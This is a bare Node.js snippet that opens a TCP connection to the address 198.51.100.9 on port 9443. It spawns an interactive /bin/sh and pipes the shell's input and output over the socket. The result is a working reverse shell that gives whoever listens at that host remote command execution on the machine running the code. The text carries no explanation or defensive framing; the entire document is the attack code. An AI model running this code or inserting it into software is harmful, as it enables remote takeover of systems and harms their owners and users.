const net = require("net");
const { spawn } = require("child_process");
const s = net.connect(9443, "198.51.100.9", () => {
  const sh = spawn("/bin/sh", ["-i"]);
  s.pipe(sh.stdin);
  sh.stdout.pipe(s);
  sh.stderr.pipe(s);
});
